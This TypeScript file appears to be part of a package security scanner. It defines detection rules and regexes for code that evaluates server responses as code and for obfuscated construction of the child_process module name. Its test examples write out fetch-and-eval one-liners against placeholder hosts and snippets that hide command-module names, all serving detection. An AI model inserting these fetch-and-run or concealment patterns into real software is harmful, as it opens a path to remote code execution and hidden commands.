import { addressesIn, NAMELESS } from '../addresses.rules';
import { chains, matchFrom } from '../matching';
import type { FileRule, Sight } from '../rule';
import type { SourceFile } from '../source-file';

const PYTHON_EXEC = /\b(?:exec|eval|compile)\s{0,2}\(/;
const PYTHON_FETCH =
  /\b(?:requests|httpx|urllib3?|urllib\.request|\w{1,12})\.(?:get|post|urlopen|request)\s{0,2}\(|\burlopen\s{0,2}\(/;
const JS_FETCH =
  /\bfetch\s{0,2}\(|\bhttps?['"]?\)?\.(?:get|request)\s{0,2}\(|\baxios(?:\.get)?\s{0,2}\(|\bgot\s{0,2}\(/;
const JS_EVAL =
  /(?<![\w$.])eval\s{0,2}\(|\bnew\s{1,4}Function\s{0,2}\(|\bvm\.runIn\w{1,12}\s{0,2}\(|\.then\s{0,2}\(\s{0,2}eval\b|_compile\s{0,2}\(/;
const JS_REACH = 260;
const RUBY_EVAL = /(?<![\w.])(?:instance_|class_)?eval\b/;
const RUBY_FETCH =
  /\bNet::HTTP\.(?:get|post)\w{0,12}|\bURI\.(?:open|parse\([^)\n]{1,200}\)\.(?:read|open))|\b(?:HTTParty|Faraday|RestClient)\.get\b/;
const COMPUTED_MODULE =
  /\brequire\s{0,2}\(\s{0,2}[A-Za-z_$][\w$.[\]]{0,60}\s{0,2}\)\s{0,2}\.\s{0,2}(?:execFile|exec|spawn)(?:Sync)?\s{0,2}\(/;
/** How a name is put together that nobody is to find. */
const BUILT_NAME =
  /String\.fromCharCode\s{0,2}\(|\batob\s{0,2}\(|Buffer\.from\s{0,2}\([^)\n]{1,200}["'](?:base64|hex)["']|\.reverse\s{0,2}\(\s{0,2}\)\s{0,2}\.join|\]\s{0,2}\.join\s{0,2}\(\s{0,2}(?:""|''|``)\s{0,2}\)/;

const MOST_PLACES = 500;

/** The first five hundred places; no program has more. */
function* few(places: Iterable<readonly number[]>): Generator<readonly number[]> {
  let count = 0;
  for (const place of places) {
    if (++count > MOST_PLACES) return;
    yield place;
  }
}

function weigh(text: string, base: number): number {
  const kinds = [...addressesIn(text)].map(({ kind }) => kind);
  if (kinds.some((kind) => NAMELESS.has(kind) || kind === 'throwaway')) return 100;
  return kinds.length > 0 && kinds.every((kind) => kind === 'local' || kind === 'official') ? 0 : base;
}

function* python(source: SourceFile): Generator<Sight> {
  for (const [at = 0, fetch = 0] of few(chains(source.text, PYTHON_EXEC, [60, PYTHON_FETCH]))) {
    const between = source.text.slice(at, fetch);
    if (/\n[ \t]{0,40}\S[^\n]{0,80}=/.test(between)) continue; // another statement
    const weight = weigh(source.text.slice(at, fetch + 300), 60);
    if (weight > 0) yield { line: source.lineAt(at), weight };
  }
}

function* javascript(source: SourceFile): Generator<Sight> {
  for (const [at = 0, evaluation = 0] of few(chains(source.text, JS_FETCH, [JS_REACH, JS_EVAL]))) {
    const weight = weigh(source.text.slice(at, evaluation), 55);
    if (weight > 0) yield { line: source.lineAt(evaluation), weight };
  }
  for (const [at = 0, fetch = 0] of few(chains(source.text, JS_EVAL, [40, JS_FETCH]))) {
    const weight = weigh(source.text.slice(at, fetch + 300), 55);
    if (weight > 0) yield { line: source.lineAt(at), weight };
  }
}

function* ruby(source: SourceFile): Generator<Sight> {
  for (const [at = 0, fetch = 0] of few(chains(source.text, RUBY_EVAL, [40, RUBY_FETCH]))) {
    const weight = weigh(source.text.slice(at, fetch + 300), 60);
    if (weight > 0) yield { line: source.lineAt(at), weight };
  }
}

function* either(source: SourceFile): Generator<Sight> {
  if (/\.py$/i.test(source.path) || source.fileClass === 'markdown' || source.hideout) yield* python(source);
  if (/\.rb$/i.test(source.path)) yield* ruby(source);
  if (!/\.(?:py|sh|bash|rb|go)$/i.test(source.path)) yield* javascript(source);
}

/** Programs that run what a server answers. */
export const REMOTE_EVALUATION_RULES: readonly FileRule[] = [
  {
    id: 'remote_code_evaluation',
    code: 'suspicious.remote_code_evaluation',
    severity: 'critical',
    weight: 60,
    files: ['code', 'markdown', 'manifest'],
    message: 'What a server answers is evaluated as code.',
    rationale: 'The bundle looks harmless and becomes whatever the server says, long after it was reviewed.',
    fix: 'Ship the code in the bundle, and fetch only data.',
    needles: [
      ['exec(', 'exec (', 'eval', 'compile(', 'new function', 'runin'],
      ['urlopen', '.get', '.post', '.request', 'fetch', 'axios', 'got(', 'uri.'],
    ],
    find: either,
    examples: {
      fires: [
        { path: 'a.py', text: 'import requests\nexec(requests.get("https://cdn.acme.dev/x").text)', line: 2 },
        {
          path: 'a.js',
          text: "https.get('https://cdn.acme.dev/l.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)); });",
        },
        { path: 'a.js', text: "eval(await (await fetch('https://cdn.acme.dev/l.js')).text());" },
        { path: 'a.rb', text: "require 'net/http'\neval(Net::HTTP.get(URI('https://cdn.acme.dev/r')))", line: 2 },
      ],
      passes: [
        { path: 'a.js', text: "const data = await fetch(url);\nconst title = await page.eval('1');" },
        { path: 'a.py', text: 'result = eval(expression)\nr = requests.get(url)' },
        { path: 'a.js', text: "eval(await (await fetch('http://localhost:3000/dev.js')).text());" },
        { path: 'a.rb', text: "page = Net::HTTP.get(URI('https://acme.dev'))\nputs eval('1 + 1')" },
      ],
    },
  },
  {
    id: 'built_command_module',
    code: 'suspicious.built_command_module',
    severity: 'critical',
    weight: 80,
    files: ['code'],
    message: 'The name of the module that runs commands is put together while the program runs.',
    rationale: 'Nobody writes that name in pieces but to hide from who looks for it.',
    fix: "Write `require('node:child_process')` where it is used.",
    needles: [['require'], ['exec', 'spawn'], ['fromcharcode', 'atob', 'buffer.from', 'reverse', 'join']],
    find: (source) => {
      const match = matchFrom(COMPUTED_MODULE, source.text, 0);
      return match && BUILT_NAME.test(source.text) ? source.lineAt(match.index) : null;
    },
    examples: {
      fires: [
        { path: 'a.js', text: "const m = ['child', '_process'].join('');\nrequire(m).exec(cmd);", line: 2 },
        { path: 'a.js', text: 'const m = String.fromCharCode(99, 104);\nrequire(m).spawnSync(c);' },
      ],
      passes: [
        { path: 'a.js', text: "const commands = names.join(', ');\nawait require(file).exec(args);" },
        { path: 'a.js', text: "require('./commands').exec(['a', 'b'].join(''));" },
      ],
    },
  },
];
